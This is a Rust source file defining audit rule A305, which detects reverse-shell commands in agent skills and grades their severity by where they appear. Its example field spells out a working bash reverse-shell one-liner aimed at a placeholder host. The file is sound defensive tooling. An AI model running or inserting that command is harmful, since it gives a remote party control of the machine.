//! A305: a command that connects a shell to another machine.

use crate::audit::Topic;
use crate::audit::reverse_shell::connects_shell;
use crate::audit_places::places;
use crate::diagnostic::Severity;
use crate::parsed_skill::ParsedSkill;
use crate::rule::{Check, Finding, Rule};

pub(crate) const RULE: Rule = Rule {
    code: "A305",
    name: "reverse-shell",
    severity: Severity::Error,
    refuses: true,
    summary: "a command that connects a shell to another machine",
    why: "The owner of the other machine can run any command. A command in running text is a warning in code and a note otherwise; comments, documents such as JSON, and code in sections about attacks or that the text forbids, are notes. Of 181 public skills, none has one.",
    example: "bash -i >& /dev/tcp/host.example/4444 0>&1",
    how_to_fix: "remove the command; use `ssh` to work on another machine",
    check: Check::Skill(check),
    ..Rule::DEFAULT
};

/// Bytes of a line that are read on each side.
const NEAR: usize = 2000;

fn check(skill: &ParsedSkill<'_>) -> Vec<Finding> {
    let mut found: Vec<Finding> = Vec::new();
    for place in places(skill, Topic::ReverseShell) {
        if !connects_shell(place.text, place.span) {
            continue;
        }
        let line = place.line(NEAR).trimmed(place.text);
        let is_new = |last: &Finding| last.span != Some(line) || last.file != place.path;
        if !found.last().is_none_or(is_new) {
            continue;
        }
        let message =
            "this command connects a shell to another machine, whose owner can run any command";
        let finding = place.finding(line, message);
        let is_comment = line.of(place.text).starts_with('#');
        let can_run = place.is_in_script() && !is_comment || place.is_run_by_client(skill);
        found.push(if can_run {
            finding.refusing()
        } else if is_comment || !place.is_in_code() || place.is_sample() {
            finding.with_severity(Severity::Info)
        } else if place.is_in_block() {
            finding.refusing()
        } else {
            finding.with_severity(Severity::Warning)
        });
    }
    found
}
